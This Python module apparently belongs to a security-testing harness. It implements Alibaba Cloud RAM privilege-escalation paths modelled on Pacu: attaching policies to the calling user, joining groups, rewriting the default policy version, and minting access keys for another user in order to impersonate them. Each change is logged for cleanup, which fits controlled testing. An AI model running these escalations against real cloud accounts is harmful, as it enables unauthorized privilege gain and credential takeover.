"""What commandUser can do with one RAM permission too many, through the RAM SDK as
commandUser itself (Pacu's `iam__privesc_scan` methods, paths-to-root section 4): attach a
policy to itself, join a group, make a new default version of its own policy, create an
AccessKey of another user. Whatever it creates is written ahead to the cleanup ledger, to be
removed by the administrator."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, TypeVar

from alibabacloud_ram20150501 import models as ram

from harness.config.names import Names
from harness.config.policies import PolicyLibrary
from harness.provisioning.ledger import CleanupLedger, Resource
from harness.sdk.clients import AccessKey, Endpoint, Principal, ram_client
from harness.sdk.gateway import Gateway

T = TypeVar("T")


class SelfEscalation:
    """commandUser's RAM calls on its own behalf."""

    def __init__(
        self,
        principal: Principal,
        gateway: Gateway,
        ledger: CleanupLedger,
        policies: PolicyLibrary,
        *,
        names: Names,
        region: str,
        endpoint: Endpoint | None,
    ) -> None:
        self._principal = principal
        self._gateway = gateway
        self._ledger = ledger
        self._policies = policies
        self._names = names
        self._ram = ram_client(principal, region, endpoint)
        self._me = names.created(principal.name)

    def _make(self, method: Callable[..., T], request: Any, resource: Resource) -> T:
        caller = self._principal.name
        return self._ledger.create(resource, lambda: self._gateway.call(caller, method, request))

    def attach_to_itself(self, label: str) -> None:
        """AttachPolicyToUser of a system policy to commandUser itself."""
        ref = self._policies.resolve(label)
        detail = {"PolicyType": ref.type, "UserName": self._me}
        self._make(
            self._ram.attach_policy_to_user,
            ram.AttachPolicyToUserRequest(
                policy_type=ref.type, policy_name=ref.ram_name, user_name=self._me
            ),
            Resource("user_policy", ref.ram_name, detail=detail),
        )

    def join(self, group: str) -> None:
        """AddUserToGroup of commandUser into the group the spec names."""
        made = self._names.created(group)
        self._make(
            self._ram.add_user_to_group,
            ram.AddUserToGroupRequest(group_name=made, user_name=self._me),
            Resource("group_member", self._me, detail={"GroupName": made}),
        )

    def rewrite(self, policy: str, label: str) -> None:
        """CreatePolicyVersion of its own custom policy, with the document of `label`, set as
        the default version."""
        made = self._names.created(policy)
        document = self._policies.resolve(label).document
        request = ram.CreatePolicyVersionRequest(
            policy_name=made, policy_document=document, set_as_default=True
        )
        caller = self._principal.name
        self._ledger.create(
            Resource("policy_version", made, detail={"VersionId": "?"}),
            lambda: self._gateway.call(caller, self._ram.create_policy_version, request),
            lambda answer: Resource(
                "policy_version",
                made,
                detail={"VersionId": str(answer.body.policy_version.version_id)},
            ),
        )

    def key_of(self, user: str) -> Principal:
        """CreateAccessKey for another RAM user: commandUser now signs as that user."""
        made = self._names.created(user)
        request = ram.CreateAccessKeyRequest(user_name=made)
        caller = self._principal.name
        answer = self._ledger.create(
            Resource("access_keys", made),
            lambda: self._gateway.call(caller, self._ram.create_access_key, request),
            lambda answer: Resource(
                "access_key", str(answer.body.access_key.access_key_id), detail={"UserName": made}
            ),
        )
        key = answer.body.access_key
        return Principal(user, AccessKey(str(key.access_key_id), str(key.access_key_secret)))
